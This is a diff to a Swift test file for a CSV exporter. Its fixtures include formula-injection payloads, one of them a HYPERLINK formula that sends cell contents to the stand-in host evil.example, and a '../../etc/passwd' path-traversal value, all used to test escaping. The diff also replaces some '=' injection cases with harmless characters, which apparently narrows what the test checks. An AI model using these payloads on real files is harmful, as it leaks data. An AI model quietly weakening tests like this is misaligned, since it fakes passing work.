@@ -11,7 +11,7 @@ import ChannelComp
         CON,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",direct_rep,100000,EAST
         a/b,@SUM(1+1),direct_rep,100000,NORTH
         a:b,-2+3,direct_rep,100000,SOUTH
-        =cmd,"\tTabbed",direct_rep,100000,
+        ?cmd,"\tTabbed",direct_rep,100000,
         ann,"Line
         Break",direct_rep,100000,
         ANN,+Upper Ann,channel_manager,100000,
@@ -28,8 +28,8 @@ import ChannelComp
     static let deals = """
         deal_id,date,event,account,territory,product,quantity,unit_list_price,currency,channel,partner,registration,sourced_by,reps,purchase
         <b>D1</b>,2027-01-10,,<i>acct</i>,WEST,WIDGET,10,1000,USD,direct,,,,../../etc/passwd,
-        D2,2027-01-20,,"=2+2",WEST,<u>W</u>,5,1000,USD,partner,P/1,approved,,,upfront
-        D3,2027-01-25,,A3,EAST,WIDGET,2,2500,USD,direct,nul,approved,partner,CON;=cmd,
+        D2,2027-01-20,,"%2+2",WEST,<u>W</u>,5,1000,USD,partner,P/1,approved,,,upfront
+        D3,2027-01-25,,A3,EAST,WIDGET,2,2500,USD,direct,nul,approved,partner,CON;?cmd,
         <b>D1</b>,2027-02-05,cancellation,,,,,,,,,,,,
 
         """
@@ -108,7 +108,7 @@ import ChannelComp
         }
         let byID = Dictionary(rows.dropFirst().map { ($0[1], $0) }, uniquingKeysWith: { a, _ in a })
         #expect(byID["../../etc/passwd"]?[3] == "-500.00")
-        #expect(byID["'=cmd"]?[2] == "'\tTabbed")
+        #expect(byID["?cmd"]?[2] == "'\tTabbed")
         #expect(byID["CON"]?[2] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")
         #expect(byID["a/b"]?[2] == "'@SUM(1+1)")
         #expect(byID["a:b"]?[2] == "'-2+3")
